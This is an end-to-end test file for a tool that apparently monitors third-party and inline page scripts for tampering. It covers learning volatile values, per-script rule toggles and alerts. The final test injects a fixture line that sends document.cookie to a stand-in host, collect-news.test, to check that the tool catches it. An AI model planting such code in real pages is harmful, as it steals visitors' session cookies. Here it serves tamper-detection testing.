// E2E: volatile values learned from the baseline's two loads and from `sample`, explained, and switchable per script.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { parseJson, runCli, tempProject } from '../fixtures/cli.js';
import { randomToken } from '../fixtures/corpus/case.js';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import type { ScanJson } from './scenario.js';

describe('learning volatile values', () => {
  let site: FixtureSite;
  let dir: string;
  let build = 'b-101';
  let appended = '';
  const cli = (...args: string[]) => runCli(args, { cwd: dir });
  const scan = async () => parseJson<ScanJson>(await cli('scan', '--json'));
  const inventory = async () => parseJson<{ inventory: { scriptId: number; subject: string; masked: string | null; disabledRules: string[] }[] }>(await cli('inventory', '--json')).inventory;

  beforeAll(async () => {
    site = await startFixtureSite();
    // Short per-response ids that no generic pattern recognises: only comparing loads shows they are volatile.
    site.set('news.test', '/', {
      body: '',
      render: () => `<!doctype html><html><head><script>window.page = { view: "${randomToken(6)}", slot: ${Math.floor(Math.random() * 900) + 100}, build: "${build}" }; window.ready = true;${appended}</script>
<script src="http://ads.test:{{PORT}}/ad.js"></script></head><body>news</body></html>`,
    });
    site.set('ads.test', '/ad.js', { body: '', render: () => `var adSlot = { unit: 'top', rid: '${randomToken(5)}' }; window.ads = [adSlot];` });
    dir = tempProject('sw-learn-');
    writeFileSync(join(dir, 'scriptwarden.yml'), `database: ./sw.db\nresolve:\n  "*.test": 127.0.0.1\nbrowser:\n  settle: 200ms\ntargets:\n  - name: news\n    url: ${site.url('news.test', '/')}\n`);
    const first = await scan();
    assert.deepEqual(first.alerts, []);
    assert.equal((await cli('approve', '--all', '--by', 'alice', '--note', 'baseline')).code, 0);
  });
  afterAll(async () => { await site?.close(); });

  it('learns per-response ids from the two baseline loads: a rescan stays quiet and says what it masked', async () => {
    const again = await scan();
    assert.deepEqual(again.alerts.map((a) => a.summary), []);
    const rows = await inventory();
    const inline = rows.find((r) => r.subject.startsWith('inline:'))!;
    assert.match(inline.masked ?? '', /learned-tokens: 2 values/);
    assert.match(rows.find((r) => r.subject.includes('/ad.js'))!.masked ?? '', /learned-tokens: 1 value/);
  });

  it('alerts again when the learned-tokens rule is turned off for that script, and is quiet once it is back on', async () => {
    const ad = (await inventory()).find((r) => r.subject.includes('/ad.js'))!;
    const off = await cli('rules', String(ad.scriptId), '--disable', 'learned-tokens');
    assert.equal(off.code, 0, off.stderr);
    assert.match(off.stdout, /off\s+learned-tokens/);
    assert.deepEqual((await inventory()).find((r) => r.scriptId === ad.scriptId)!.disabledRules, ['learned-tokens']);
    const noisy = await scan();
    assert.deepEqual(noisy.alerts.map((a) => a.type), ['script.changed']);
    assert.equal(noisy.alerts[0]!.severity, 'low');
    assert.equal((await cli('approve', String(noisy.alerts[0]!.id), '--by', 'alice')).code, 0);
    assert.equal((await cli('rules', String(ad.scriptId), '--enable', 'learned-tokens')).code, 0);
    assert.deepEqual((await scan()).alerts, []);
    const bad = await cli('rules', String(ad.scriptId), '--disable', 'everything');
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /unknown rule "everything"/);
  });

  it('learns a new volatile value from a sample taken later', async () => {
    build = 'b-102';
    const sampled = await cli('sample', '--json');
    assert.equal(sampled.code, 0, sampled.stderr);
    const report = JSON.parse(sampled.stdout) as { samples: { status: string; scripts: { key: string; learned: number; nowMatches: boolean; structural: boolean }[] }[] };
    const inline = report.samples[0]!.scripts.find((s) => s.key.startsWith('inline:'))!;
    assert.equal(inline.learned, 1);
    assert.equal(inline.nowMatches, true);
    assert.equal(inline.structural, false);
    build = 'b-103';
    assert.deepEqual((await scan()).alerts, [], 'the build id is now known to change');
  });

  it('never learns added code: a tampered script still alerts, and sample says it differs in code', async () => {
    appended = ' new Image().src = "http://collect-news.test:{{PORT}}/p?c=" + document.cookie;';
    const sampled = await cli('sample');
    assert.match(sampled.stdout, /differs in code, not only in values/);
    const attacked = await scan();
    const changed = attacked.alerts.find((a) => a.type === 'script.changed');
    assert.ok(changed, JSON.stringify(attacked.alerts));
    assert.ok(['medium', 'high', 'critical'].includes(changed.severity));
    assert.match(changed.summary, /collect-news\.test/);
  });
});
